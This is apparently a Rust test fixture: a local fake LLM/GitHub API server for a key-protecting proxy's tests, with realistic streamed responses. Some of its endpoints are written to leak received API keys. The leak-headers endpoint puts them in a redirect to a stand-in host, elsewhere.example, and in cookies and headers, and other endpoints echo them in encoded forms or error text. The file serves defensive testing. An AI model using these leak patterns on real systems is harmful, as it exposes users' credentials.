//! A local stand-in for the LLM and GitHub APIs, for `keyward demo` and the tests: it records
//! what it receives and answers like the real APIs, including slow SSE streams.
//!
//! Control paths (anywhere in the path): `/_fake/echo-headers[?chunk=N]`, `/_fake/sse?events=N&interval_ms=M[&linger_ms=L]`,
//! `/_fake/redirect?to=URL`, `/_fake/status/NNN`, `/_fake/slow?ms=N`, `/_fake/bytes?n=N`, and the hostile ones that
//! try to leak what they received: `/_fake/echo-encoded`, `/_fake/leak-headers`,
//! `/_fake/gzip-echo`, `/_fake/brotli`, `/_fake/error-echo`.
//!
//! Like a real API it can check keys: after `accept_only(keys)`, any other credential gets 401
//! (OpenAI's `invalid_api_key` shape, without echoing the key), so tests can rotate a key.

use std::collections::BTreeMap;
use std::convert::Infallible;
use std::net::SocketAddr;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use base64::Engine;
use bytes::Bytes;
use http::{HeaderMap, Method, Request, Response, StatusCode};
use http_body_util::combinators::BoxBody;
use http_body_util::{BodyExt, Full, StreamBody};
use hyper::body::{Frame, Incoming};
use hyper_util::rt::{TokioExecutor, TokioIo};
use percent_encoding::{NON_ALPHANUMERIC, utf8_percent_encode};
use serde_json::json;
use tokio::net::TcpListener;
use tokio::sync::watch;

type FakeBody = BoxBody<Bytes, Infallible>;

/// One request as the upstream saw it.
#[derive(Clone)]
pub struct Recorded {
    pub method: Method,
    /// Path and query as received.
    pub target: String,
    pub headers: HeaderMap,
    pub body: Bytes,
}

pub struct FakeUpstream {
    pub addr: SocketAddr,
    recorded: Arc<Mutex<Vec<Recorded>>>,
    accepted: Accepted,
    stop: watch::Sender<bool>,
}

/// The keys the upstream accepts; `None` accepts anything.
type Accepted = Arc<Mutex<Option<Vec<String>>>>;

impl FakeUpstream {
    pub async fn start() -> std::io::Result<FakeUpstream> {
        let listener = TcpListener::bind("127.0.0.1:0").await?;
        let addr = listener.local_addr()?;
        let recorded: Arc<Mutex<Vec<Recorded>>> = Arc::default();
        let (stop, mut stopped) = watch::channel(false);
        let log = recorded.clone();
        let accepted: Accepted = Arc::default();
        let keys = accepted.clone();
        tokio::spawn(async move {
            loop {
                let (stream, _) = tokio::select! {
                    accepted = listener.accept() => match accepted { Ok(pair) => pair, Err(_) => continue },
                    _ = stopped.changed() => return,
                };
                let (log, keys) = (log.clone(), keys.clone());
                tokio::spawn(async move {
                    let service =
                        hyper::service::service_fn(move |request| respond(request, log.clone(), keys.clone()));
                    let _ = hyper_util::server::conn::auto::Builder::new(TokioExecutor::new())
                        .serve_connection(TokioIo::new(stream), service)
                        .await;
                });
            }
        });
        Ok(FakeUpstream { addr, recorded, accepted, stop })
    }

    /// From now on, only these credentials are accepted (the key in `authorization: Bearer` or
    /// `x-api-key`); every other one gets 401.
    pub fn accept_only(&self, keys: &[&str]) {
        *self.accepted.lock().expect("fake upstream keys") = Some(keys.iter().map(|k| k.to_string()).collect());
    }

    pub fn url(&self) -> String {
        format!("http://{}", self.addr)
    }

    pub fn requests(&self) -> Vec<Recorded> {
        self.recorded.lock().expect("fake upstream log").clone()
    }

    pub fn count(&self) -> usize {
        self.recorded.lock().expect("fake upstream log").len()
    }

    pub fn last(&self) -> Option<Recorded> {
        self.recorded.lock().expect("fake upstream log").last().cloned()
    }
}

impl Drop for FakeUpstream {
    fn drop(&mut self) {
        let _ = self.stop.send(true);
    }
}

fn full(status: StatusCode, content_type: &str, body: impl Into<Bytes>) -> Response<FakeBody> {
    Response::builder()
        .status(status)
        .header("content-type", content_type)
        .body(Full::new(body.into()).boxed())
        .expect("static response parts are valid")
}

fn json_response(status: StatusCode, value: serde_json::Value) -> Response<FakeBody> {
    full(status, "application/json", value.to_string())
}

fn query_param<'a>(query: &'a str, name: &str) -> Option<&'a str> {
    query.split('&').find_map(|pair| pair.strip_prefix(name)?.strip_prefix('='))
}

async fn respond(
    request: Request<Incoming>,
    log: Arc<Mutex<Vec<Recorded>>>,
    accepted: Accepted,
) -> Result<Response<FakeBody>, Infallible> {
    let (parts, body) = request.into_parts();
    let body = body.collect().await.map(|c| c.to_bytes()).unwrap_or_default();
    let target = parts.uri.path_and_query().map(|p| p.to_string()).unwrap_or_default();
    log.lock().expect("fake upstream log").push(Recorded {
        method: parts.method.clone(),
        target: target.clone(),
        headers: parts.headers.clone(),
        body: body.clone(),
    });
    let path = parts.uri.path();
    let query = parts.uri.query().unwrap_or("");
    let headers: BTreeMap<String, String> = parts
        .headers
        .iter()
        .map(|(k, v)| (k.to_string(), String::from_utf8_lossy(v.as_bytes()).into_owned()))
        .collect();
    let echo = json!({ "headers": headers, "target": target }).to_string();
    let refused = accepted.lock().expect("fake upstream keys").as_ref().is_some_and(|keys| {
        let presented = received_credentials(&parts.headers, "");
        !presented.iter().any(|p| keys.contains(p))
    });
    let response = if refused {
        json_response(
            StatusCode::UNAUTHORIZED,
            json!({ "error": typed("invalid_request_error", json!({ "message": "Incorrect API key provided.", "code": "invalid_api_key" })) }),
        )
    } else if path.ends_with("/v1/models") {
        json_response(StatusCode::OK, json!({ "object": "list", "data": [{ "id": "gpt-fake", "object": "model" }] }))
    } else if path.contains("/_fake/echo-headers") {
        match query_param(query, "chunk").and_then(|v| v.parse::<usize>().ok()) {
            Some(size) => chunked(Bytes::from(echo), size.max(1)),
            None => full(StatusCode::OK, "application/json", echo),
        }
    } else if path.contains("/_fake/echo-encoded") {
        let b64 = base64::engine::general_purpose::STANDARD;
        let forms: Vec<serde_json::Value> = received_credentials(&parts.headers, &target)
            .iter()
            .map(|v| {
                json!({
                    "raw": v,
                    "base64": b64.encode(v),
                    "base64_url": base64::engine::general_purpose::URL_SAFE.encode(v),
                    "percent": utf8_percent_encode(v, NON_ALPHANUMERIC).to_string(),
                    "in_basic": b64.encode(format!("user:{v}")),
                })
            })
            .collect();
        json_response(StatusCode::OK, json!({ "forms": forms }))
    } else if path.contains("/_fake/leak-headers") {
        let value = received_credentials(&parts.headers, &target).join(" ");
        let encoded = utf8_percent_encode(&value, NON_ALPHANUMERIC).to_string();
        Response::builder()
            .status(StatusCode::FOUND)
            .header("location", format!("https://elsewhere.example/callback?auth={encoded}"))
            .header("content-location", format!("/v1/echo?auth={encoded}"))
            .header("set-cookie", format!("session={encoded}; HttpOnly"))
            .header("x-debug-auth", value.replace(['\r', '\n'], ""))
            .body(Full::new(Bytes::new()).boxed())
            .expect("valid leak response")
    } else if path.contains("/_fake/gzip-echo") {
        let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
        std::io::Write::write_all(&mut encoder, echo.as_bytes()).expect("writing to a Vec cannot fail");
        Response::builder()
            .status(StatusCode::OK)
            .header("content-type", "application/json")
            .header("content-encoding", "gzip")
            .body(Full::new(Bytes::from(encoder.finish().expect("gzip to a Vec"))).boxed())
            .expect("valid gzip response")
    } else if path.contains("/_fake/brotli") {
        Response::builder()
            .status(StatusCode::OK)
            .header("content-encoding", "br")
            .body(Full::new(Bytes::from_static(b"\x1b\x03\x00\xf8")).boxed())
            .expect("valid br response")
    } else if path.contains("/_fake/error-echo") {
        let value = received_credentials(&parts.headers, &target).join(" ");
        json_response(
            StatusCode::UNAUTHORIZED,
            json!({ "error": typed("invalid_request_error", json!({ "message": format!("Incorrect API key provided: {value}") })) }),
        )
    } else if path.contains("/_fake/sse") {
        let events = query_param(query, "events").and_then(|v| v.parse().ok()).unwrap_or(5);
        let interval = query_param(query, "interval_ms").and_then(|v| v.parse().ok()).unwrap_or(100);
        let linger = query_param(query, "linger_ms").and_then(|v| v.parse().ok()).unwrap_or(0);
        sse(events, Duration::from_millis(interval), Duration::from_millis(linger))
    } else if path.contains("/_fake/redirect") {
        let to = query_param(query, "to").unwrap_or("http://127.0.0.1:9/elsewhere");
        Response::builder()
            .status(StatusCode::FOUND)
            .header("location", to)
            .body(Full::new(Bytes::new()).boxed())
            .expect("valid redirect")
    } else if let Some(code) = path.split("/_fake/status/").nth(1) {
        let status = code.parse().ok().and_then(|c| StatusCode::from_u16(c).ok()).unwrap_or(StatusCode::IM_A_TEAPOT);
        json_response(status, json!({ "error": typed("fake", json!({ "message": "fake upstream status" })) }))
    } else if path.contains("/_fake/bytes") {
        let n = query_param(query, "n").and_then(|v| v.parse().ok()).unwrap_or(1024).min(64 << 20);
        full(StatusCode::OK, "application/octet-stream", vec![b'k'; n])
    } else if path.contains("/_fake/slow") {
        let ms = query_param(query, "ms").and_then(|v| v.parse().ok()).unwrap_or(1000);
        tokio::time::sleep(Duration::from_millis(ms)).await;
        json_response(StatusCode::OK, json!({ "slept_ms": ms }))
    } else if path.ends_with("/chat/completions") && parts.method == Method::POST {
        // The end of a real stream reaches the client a little after `data: [DONE]`, and the
        // OpenAI SDK closes the connection as soon as it reads [DONE].
        if wants_stream(&body) {
            let events = body_number(&body, "fake_events").unwrap_or(5) as usize;
            let interval = body_number(&body, "fake_interval_ms").unwrap_or(50);
            chat_stream(events, Duration::from_millis(interval), Duration::from_millis(300), includes_usage(&body))
        } else {
            chat_completion()
        }
    } else if path.ends_with("/responses") && parts.method == Method::POST && wants_stream(&body) {
        responses_stream()
    } else if path.ends_with("/responses") && parts.method == Method::POST {
        json_response(
            StatusCode::OK,
            json!({ "id": "resp_fake", "object": "response", "created_at": 0, "status": "completed", "model": "gpt-fake",
                    "output": [output_message()],
                    "parallel_tool_calls": true, "tool_choice": "auto", "tools": [],
                    "usage": { "input_tokens": 5, "output_tokens": 7, "total_tokens": 12 } }),
        )
    } else if path.contains(":generateContent") && parts.method == Method::POST {
        json_response(
            StatusCode::OK,
            json!({ "candidates": [{ "content": { "role": "model", "parts": [{ "text": "Hello from the fake upstream." }] },
                                     "finishReason": "STOP", "index": 0 }],
                    "usageMetadata": { "promptTokenCount": 5, "candidatesTokenCount": 7, "totalTokenCount": 12 } }),
        )
    } else if path.ends_with("/messages") && parts.method == Method::POST && wants_stream(&body) {
        anthropic_stream()
    } else if path.ends_with("/messages") && parts.method == Method::POST {
        json_response(
            StatusCode::OK,
            typed(
                "message",
                json!({ "id": "msg_fake", "role": "assistant", "model": "claude-fake",
                        "content": [typed("text", json!({ "text": "Hello from the fake upstream." }))],
                        "stop_reason": "end_turn",
                        "usage": { "input_tokens": 5, "output_tokens": 7, "cache_creation_input_tokens": 3, "cache_read_input_tokens": 4 } }),
            ),
        )
    } else if path.ends_with("/user") {
        json_response(StatusCode::OK, json!({ "login": "fake-user", "id": 1 }))
    } else {
        json_response(StatusCode::OK, json!({ "ok": true, "method": parts.method.as_str(), "target": target }))
    };
    Ok(response)
}

/// A number field of a JSON request body (the fake's own `fake_events`, `fake_interval_ms`).
fn body_number(body: &[u8], field: &str) -> Option<u64> {
    serde_json::from_slice::<serde_json::Value>(body).ok()?.get(field)?.as_u64()
}

/// Whether a chat request asks for usage in its stream (`stream_options.include_usage`).
fn includes_usage(body: &[u8]) -> bool {
    serde_json::from_slice::<serde_json::Value>(body)
        .ok()
        .and_then(|v| v.pointer("/stream_options/include_usage").and_then(|u| u.as_bool()))
        .unwrap_or(false)
}

/// A streamed chat completion as OpenAI sends it: `events` content chunks `interval` apart,
/// with `include_usage` a `"usage":null` on each and a last chunk with no choices and the usage
/// (`prompt_tokens` 9, 2 of them cached, and one completion token a chunk), then `data: [DONE]`,
/// and the body's end `linger` after that.
fn chat_stream(events: usize, interval: Duration, linger: Duration, usage: bool) -> Response<FakeBody> {
    let stream = futures_util::stream::unfold(0usize, move |i| async move {
        if i > events + 1 {
            tokio::time::sleep(linger).await;
            return None;
        }
        if i > 0 && i < events {
            tokio::time::sleep(interval).await;
        }
        let data = if i < events {
            let content = format!("tok{i} ");
            let chunk = if usage {
                format!(
                    r#"{{"id":"chatcmpl-fake","object":"chat.completion.chunk","created":0,"model":"gpt-fake","choices":[{{"index":0,"delta":{{"content":"{content}"}},"finish_reason":null}}],"usage":null}}"#
                )
            } else {
                format!(
                    r#"{{"id":"chatcmpl-fake","object":"chat.completion.chunk","created":0,"model":"gpt-fake","choices":[{{"index":0,"delta":{{"content":"{content}"}},"finish_reason":null}}]}}"#
                )
            };
            format!("data: {chunk}\n\n")
        } else if i == events && usage {
            let chunk = json!({ "id": "chatcmpl-fake", "object": "chat.completion.chunk", "created": 0, "model": "gpt-fake",
                                "choices": [],
                                "usage": { "prompt_tokens": 9, "completion_tokens": events, "total_tokens": 9 + events,
                                           "prompt_tokens_details": { "cached_tokens": 2 } } });
            format!("data: {chunk}\n\n")
        } else {
            // Without usage there is no usage chunk: [DONE] comes right after the content.
            return Some((Ok::<_, Infallible>(Frame::data(Bytes::from_static(b"data: [DONE]\n\n"))), events + 2));
        };
        Some((Ok::<_, Infallible>(Frame::data(Bytes::from(data))), i + 1))
    });
    Response::builder()
        .status(StatusCode::OK)
        .header("content-type", "text/event-stream")
        .header("cache-control", "no-cache")
        .body(BodyExt::boxed(StreamBody::new(stream)))
        .expect("valid SSE response")
}

/// An API object whose `type` field says what it is, as OpenAI and Anthropic payloads carry it.
fn typed(kind: &str, mut fields: serde_json::Value) -> serde_json::Value {
    fields["type"] = kind.into();
    fields
}

/// The assistant message item of a Responses answer.
fn output_message() -> serde_json::Value {
    typed(
        "message",
        json!({ "id": "msg_fake", "status": "completed", "role": "assistant",
                "content": [typed("output_text", json!({ "text": "Hello from the fake upstream.", "annotations": [] }))] }),
    )
}

/// A streamed Responses answer, as the openai SDK's `responses.create(stream=True)` reads it:
/// created, text deltas, the finished item, and `response.completed` with the usage (11 input
/// tokens, 3 of them cached, 6 output).
fn responses_stream() -> Response<FakeBody> {
    let item = output_message();
    let response = |status: &str, output: serde_json::Value, usage: serde_json::Value| {
        json!({ "id": "resp_fake", "object": "response", "created_at": 0, "status": status, "model": "gpt-fake",
                "output": output, "parallel_tool_calls": true, "tool_choice": "auto", "tools": [], "usage": usage })
    };
    let usage = json!({ "input_tokens": 11, "input_tokens_details": { "cached_tokens": 3 }, "output_tokens": 6,
                        "output_tokens_details": { "reasoning_tokens": 0 }, "total_tokens": 17 });
    let events = [
        typed(
            "response.created",
            json!({ "sequence_number": 0, "response": response("in_progress", json!([]), serde_json::Value::Null) }),
        ),
        typed(
            "response.output_text.delta",
            json!({ "sequence_number": 1, "item_id": "msg_fake", "output_index": 0, "content_index": 0, "delta": "Hello from ", "logprobs": [] }),
        ),
        typed(
            "response.output_text.delta",
            json!({ "sequence_number": 2, "item_id": "msg_fake", "output_index": 0, "content_index": 0, "delta": "the fake upstream.", "logprobs": [] }),
        ),
        typed("response.output_item.done", json!({ "sequence_number": 3, "output_index": 0, "item": item.clone() })),
        typed(
            "response.completed",
            json!({ "sequence_number": 4, "response": response("completed", json!([item]), usage) }),
        ),
    ];
    let frames: Vec<Result<Frame<Bytes>, Infallible>> = events
        .into_iter()
        .map(|data| {
            Ok(Frame::data(Bytes::from(format!(
                "event: {}\ndata: {data}\n\n",
                data["type"].as_str().unwrap_or_default()
            ))))
        })
        .collect();
    Response::builder()
        .status(StatusCode::OK)
        .header("content-type", "text/event-stream")
        .body(BodyExt::boxed(StreamBody::new(futures_util::stream::iter(frames))))
        .expect("valid SSE response")
}

/// Whether a JSON request body asks for `"stream": true`.
fn wants_stream(body: &[u8]) -> bool {
    serde_json::from_slice::<serde_json::Value>(body)
        .ok()
        .and_then(|v| v.get("stream").and_then(|s| s.as_bool()))
        .unwrap_or(false)
}

/// An Anthropic Messages event stream, as the anthropic SDK's `stream=True` reads it.
fn anthropic_stream() -> Response<FakeBody> {
    let message = typed(
        "message",
        json!({ "id": "msg_fake", "role": "assistant", "model": "claude-fake", "content": [], "stop_reason": null,
                "usage": { "input_tokens": 5, "cache_creation_input_tokens": 3, "cache_read_input_tokens": 4, "output_tokens": 1 } }),
    );
    let events = [
        ("message_start", typed("message_start", json!({ "message": message }))),
        (
            "content_block_start",
            typed("content_block_start", json!({ "index": 0, "content_block": typed("text", json!({ "text": "" })) })),
        ),
        (
            "content_block_delta",
            typed(
                "content_block_delta",
                json!({ "index": 0, "delta": typed("text_delta", json!({ "text": "Hello from " })) }),
            ),
        ),
        (
            "content_block_delta",
            typed(
                "content_block_delta",
                json!({ "index": 0, "delta": typed("text_delta", json!({ "text": "the fake upstream." })) }),
            ),
        ),
        ("content_block_stop", typed("content_block_stop", json!({ "index": 0 }))),
        (
            "message_delta",
            typed("message_delta", json!({ "delta": { "stop_reason": "end_turn" }, "usage": { "output_tokens": 7 } })),
        ),
        ("message_stop", typed("message_stop", json!({}))),
    ];
    let frames: Vec<Result<Frame<Bytes>, Infallible>> = events
        .into_iter()
        .map(|(name, data)| Ok(Frame::data(Bytes::from(format!("event: {name}\ndata: {data}\n\n")))))
        .collect();
    Response::builder()
        .status(StatusCode::OK)
        .header("content-type", "text/event-stream")
        .body(BodyExt::boxed(StreamBody::new(futures_util::stream::iter(frames))))
        .expect("valid SSE response")
}

/// Every credential-looking thing the upstream received: auth headers (Basic decoded too) and
/// the query string.
fn received_credentials(headers: &HeaderMap, target: &str) -> Vec<String> {
    let mut out = Vec::new();
    for name in ["authorization", "x-api-key", "api-key", "x-goog-api-key"] {
        for value in headers.get_all(name) {
            let text = String::from_utf8_lossy(value.as_bytes()).into_owned();
            if let Some(basic) = text.strip_prefix("Basic ")
                && let Ok(decoded) = base64::engine::general_purpose::STANDARD.decode(basic)
            {
                out.push(String::from_utf8_lossy(&decoded).into_owned());
            }
            if let Some((_, token)) = text.split_once(' ') {
                out.push(token.to_string());
            }
            out.push(text);
        }
    }
    if let Some((_, query)) = target.split_once('?') {
        out.push(query.to_string());
    }
    out
}

/// A body sent in `size`-byte chunks with a short pause between them.
fn chunked(body: Bytes, size: usize) -> Response<FakeBody> {
    let stream = futures_util::stream::unfold(0usize, move |at| {
        let body = body.clone();
        async move {
            if at >= body.len() {
                return None;
            }
            if at > 0 {
                tokio::time::sleep(Duration::from_millis(1)).await;
            }
            let end = (at + size).min(body.len());
            Some((Ok::<_, Infallible>(Frame::data(body.slice(at..end))), end))
        }
    });
    Response::builder()
        .status(StatusCode::OK)
        .header("content-type", "application/json")
        .body(BodyExt::boxed(StreamBody::new(stream)))
        .expect("valid chunked response")
}

fn chat_completion() -> Response<FakeBody> {
    json_response(
        StatusCode::OK,
        json!({ "id": "chatcmpl-fake", "object": "chat.completion", "model": "gpt-fake",
                "choices": [{ "index": 0, "finish_reason": "stop",
                              "message": { "role": "assistant", "content": "Hello from the fake upstream." } }],
                "usage": { "prompt_tokens": 5, "completion_tokens": 7, "total_tokens": 12,
                           "prompt_tokens_details": { "cached_tokens": 2 } } }),
    )
}

/// An OpenAI-style event stream: `events` chunks `interval` apart, then `data: [DONE]`, and
/// the body's end `linger` after that.
fn sse(events: usize, interval: Duration, linger: Duration) -> Response<FakeBody> {
    let stream = futures_util::stream::unfold(0usize, move |i| async move {
        if i > events {
            tokio::time::sleep(linger).await;
            return None;
        }
        if i > 0 {
            tokio::time::sleep(interval).await;
        }
        let data = if i == events {
            "data: [DONE]\n\n".to_string()
        } else {
            let chunk = json!({ "id": "chatcmpl-fake", "object": "chat.completion.chunk", "index": i,
                                "choices": [{ "index": 0, "delta": { "content": format!("tok{i} ") } }] });
            format!("data: {chunk}\n\n")
        };
        Some((Ok::<_, Infallible>(Frame::data(Bytes::from(data))), i + 1))
    });
    Response::builder()
        .status(StatusCode::OK)
        .header("content-type", "text/event-stream")
        .header("cache-control", "no-cache")
        .body(BodyExt::boxed(StreamBody::new(stream)))
        .expect("valid SSE response")
}
